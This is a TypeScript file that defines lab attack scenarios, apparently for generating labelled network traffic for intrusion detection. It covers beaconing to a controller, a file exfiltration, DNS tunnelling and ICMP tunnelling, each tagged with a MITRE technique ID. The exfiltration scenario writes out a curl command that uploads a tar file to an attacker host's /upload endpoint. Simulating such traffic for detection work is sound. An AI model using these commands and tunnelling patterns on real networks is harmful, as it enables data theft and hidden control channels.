import type { Scenario, ScenarioContext } from '../scenario.js';

/** Starts the attacker's server that takes whatever comes, runs the work, and stops it. */
async function withReceiver(context: ScenarioContext, work: () => Promise<void>): Promise<void> {
  const script = new URL('../traffic/receiver.ts', import.meta.url).pathname;
  const receiver = context.lab.hosts.attacker.start(process.execPath, ['--import', 'tsx', script]);
  await receiver.waitForOutput(/receiver: ready/);
  await work();
  await receiver.stop();
}

/** The victim is infected: it asks its master for orders again and again. */
function beacon(jitter: number): Scenario {
  return {
    name: `beacon-${Math.round(jitter * 100)}`,
    summary: `an infected host calls out regularly, jitter ${Math.round(jitter * 100)} %`,
    kind: 'attack',
    services: [],
    run: async (context) => {
      const [master = ''] = context.attackers();
      const intervalMs = context.at({ slow: 5000, normal: 2000, fast: 500 });
      // Enough intervals to be seen, whatever --seconds says.
      const seconds = Math.max(context.seconds, (20 * intervalMs) / 1000);
      const facts = {
        label: 'beacon',
        technique: 'T1071.001',
        malicious: true,
        sources: [context.victim.ip4],
        targets: [master],
      };
      const settings = { sources: [context.victim.ip4], target: master, intervalMs, jitter, seconds };
      await withReceiver(context, () => context.traffic(facts, 'victim', 'beacon', settings));
    },
  };
}

const exfiltration: Scenario = {
  name: 'exfiltration',
  summary: 'an infected host uploads a large file',
  kind: 'attack',
  services: ['web'],
  run: async (context) => {
    const [master = ''] = context.attackers();
    const rate = context.at({ slow: '500k', normal: '4M', fast: '40M' });
    const file = `${context.lab.dir}/www/package.tar`;
    const args = ['-s', '-o', '/dev/null', '--limit-rate', rate, '-m', '60', '-T', file, `http://${master}/upload`];
    const facts = { label: 'exfiltration', technique: 'T1041', sources: [context.victim.ip4], targets: [master] };
    await withReceiver(context, () => context.attack(facts, 'victim', 'curl', args));
  },
};

const dnsTunnel: Scenario = {
  name: 'dns-tunnel',
  summary: 'data in long random names under one domain',
  kind: 'attack',
  services: ['dns'],
  run: async (context) => {
    const [source = ''] = context.attackers();
    const ratePerSec = context.at({ slow: 1, normal: 10, fast: 60 });
    const facts = {
      label: 'dns_tunnel',
      technique: 'T1071.004',
      malicious: true,
      sources: [source],
      targets: [context.victim.ip4],
    };
    await context.traffic(facts, 'attacker', 'dns-tunnel', {
      sources: [source],
      target: context.victim.ip4,
      ratePerSec,
    });
  },
};

const icmpTunnel: Scenario = {
  name: 'icmp-tunnel',
  summary: 'data in large echo requests, as a ping tunnel sends them',
  kind: 'attack',
  services: [],
  run: async (context) => {
    const [source = ''] = context.attackers();
    const interval = context.at({ slow: '0.5', normal: '0.1', fast: '0.02' });
    const count = Math.ceil(context.seconds / Number(interval));
    const args = ['-q', '-I', source, '-s', '1000', '-i', interval, '-c', String(count), context.victim.ip4];
    const facts = { label: 'icmp_tunnel', technique: 'T1095', sources: [source], targets: [context.victim.ip4] };
    await context.attack(facts, 'attacker', 'ping', args);
  },
};

export const commandAndControl: readonly Scenario[] = [
  ...[0, 0.2, 0.5].map(beacon),
  exfiltration,
  dnsTunnel,
  icmpTunnel,
];
